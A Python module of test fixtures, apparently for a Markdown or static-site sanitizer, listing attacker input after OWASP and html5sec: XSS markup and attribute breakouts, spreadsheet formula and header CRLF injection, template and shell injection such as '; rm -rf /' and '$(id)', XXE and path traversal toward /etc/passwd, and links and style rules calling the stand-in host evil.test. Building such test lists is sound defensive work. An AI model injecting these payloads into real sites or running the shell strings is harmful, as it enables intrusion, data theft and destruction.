"""What attackers write where a site expects words, after OWASP's filter evasion cheat sheet and html5sec, and our own.

Each would call `alert`, ask another site for something, end the string, line or cell that it stands in, or be run.
"""

from __future__ import annotations

from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>",
    "<script\x20>alert(1)//", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>",
    "<IMG SRC=javascript:alert(1)>", "<img src=//evil.test/i.png>", "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/>",
    "<math><mtext></table><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>", "<style>*{background:url(//evil.test/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input autofocus onfocus=alert(1)>", "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>", "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<details/open/ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a ping=//evil.test href=/>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>x</x>", "<x/onpointerrawupdate=alert(1)>", "<dialog open onclose=alert(1)>",
    "<portal src=//evil.test>", "<x contenteditable onblur=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039img src=x onerror=alert(1)\u203a",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
"""HTML, XML and SVG, whole or cut, and what some readers decode into it."""

QUOTES: Final = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '"><svg onload=alert(1)',
    "'><svg onload=alert(1)", "` onmouseover=alert(1)", '" style="background:url(//evil.test/b)', '"; alert(1); //',
    "'; alert(1); //", "'-alert(1)-'", '"-alert(1)-"', "\\'; alert(1); //", '\\"; alert(1); //', "${alert(1)}",
    "`${alert(1)}`", "</", "<", "<a", "<!", "&", "&#", "&quot;", "'", '"', "\\", "javascript:alert(1)",
    "expression(alert(1))", "url(//evil.test/b)", "}*{background:url(//evil.test/b)", "/*", "*/", "//evil.test/",
    "*{x:expression(alert(1))}",
)  # fmt: skip
"""What ends an attribute, a string of a script, or a rule of a style sheet."""

MACHINES: Final = (
    "=1+1", "=cmd|'/C calc'!A1", "+1+cmd", "-1+cmd", "@SUM(1+1)", "=HYPERLINK('//evil.test','x')", "\t=1+1", "'=1+1",
    ';=1+1;"', '","=1+1', "a;b,c:d\\e", "END:VEVENT", "BEGIN:VALARM", "\\nEND:VCALENDAR", "DTSTART:19700101",
    ";VALUE=URI:x", "RRULE:FREQ=SECONDLY", "]]>", "<![CDATA[", "&a;", "%0d%0aSet-Cookie: a=b",
    "\\r\\nLocation: //evil.test", '{"@type":"Person"}', '"}],"x":[{"', "\\u2028", "__proto__", "constructor",
    "{{ 7*7 }}", "{% import os %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s", "%s%n",
    "{filename}/../../etc/passwd", "|attach|", ":splat", "/* /x 200", "$(id)", "`id`", "; rm -rf /", "| id",
    "!!python/object:os.system", "::error::x",
)  # fmt: skip
"""What a spreadsheet, a calendar, a feed, JSON, a header, a template, a shell or a forge may take for its own."""

ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript&#0058alert(1)", "%6aavascript:alert(1)", "javascript://exemple.fr/%0aalert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.test/x", "file:///etc/passwd",
    "filesystem:https://evil.test/x", "//evil.test", "///evil.test", "\\\\evil.test", "/\\evil.test", "/\t/evil.test",
    "https:/\\evil.test", "https:evil.test", "http://evil.test", "ftp://evil.test", "ws://evil.test", "about:blank",
    "chrome://settings", "view-source:https://a.fr", "intent://x#Intent;end", 'https://a.fr" onclick="alert(1)',
    "https://a.fr'><script>alert(1)</script>", "https://a.fr\\@evil.test", "https://a.fr\n\nx",
    "https://a.fr/\u202egpj.exe", "https://a.fr\u2028x", "mailto:a@b.fr?body=<script>", "mailto:a@b.fr\nBcc:c@d.fr",
    "tel:*#06#", "sms:+33", "{static}/../site.yaml", "{static}//evil.test/x", "{filename}//evil.test", "{attach}x",
    "{{ 7*7 }}", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/..//evil.test", "/%2e%2e//evil.test",
)  # fmt: skip
"""Addresses that lead out, run, or are two things at once."""

FORMER: Final = (
    "/a b/", "/a\nb/", "/a\r\nSet-Cookie: x=y", "/a%0d%0ab\n", "/*", "/:splat", "/a/:id", "/a?b", "/a#b", "/a;b",
    "/{a}", "/$1", '/a"b', "/a'b", "/a\\b", "/a|b", "//evil.test", "/../x", "/./x", "/.well-known/x", "/a/../b", "a/b",
    "https://evil.test/", "/é/", "/a\tb", "/ ", "/a//b", "/a` id `", "/a<b>", "/a\x00b", "/a\u2028b", "/_headers\n/x",
    "",
)  # fmt: skip
"""Former addresses that would write another rule in the files of a host."""

BODIES: Final = (
    *(f"[x]({address})" for address in ADDRESSES), *(f"![Une vue]({address})" for address in ADDRESSES),
    *(f"<{address}>" for address in ADDRESSES), *(f"[x][r]\n\n[r]: {address}" for address in ADDRESSES), *MARKUP,
    *QUOTES, *MACHINES, "[x](/label/ \"a' onclick=alert(1)\")", "[x](/label/ 'a\" onclick=alert(1)')",
    "[<img src=x onerror=alert(1)>](/label/)", "[`<script>`](/label/)", "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", '```"onload=alert(1)\nx\n```',
    "~~~ x><script>alert(1)</script>\nx\n~~~", "    <script>alert(1)</script>", "> <script>alert(1)</script>",
    '| <script>alert(1)</script> | b |\n|---|---|\n| " onclick=alert(1) | c |', "## <img src=x onerror=alert(1)>",
    '## "onclick=alert(1)', "Terme <b>\n: <script>alert(1)</script>", "a[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onclick=alert(1)]: x', "a\\<script>alert(1)</script>", "*<script>*alert(1)*</script>*",
    '<https://a.fr"onclick=alert(1)>', '<a@b.fr"onclick=alert(1)>', '[x](</label/" onclick=alert(1)>)',
    "[x](javascript&#58;alert(1))", "[x](java&#x0A;script:alert(1))", "\x02wzxhzdk:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;", "klzzwxh:0000", "\x02klzzwxh:0000\x03", "&amp;lt;script&amp;gt;",
    "[x]: javascript:alert(1)\n\n[x]", "![x][r]\n\n[r]: data:image/svg+xml,x",
    "[![x](//evil.test/i.png)](//evil.test)", "http://evil.test", "https://evil.test/<script>alert(1)</script>",
)  # fmt: skip
"""Markdown: links, pictures, references, code, tables, titles, notes; and what Python-Markdown keeps for itself."""

WORDS: Final = (*MARKUP, *QUOTES, *MACHINES, *ADDRESSES)
"""All that may be written where words are due."""
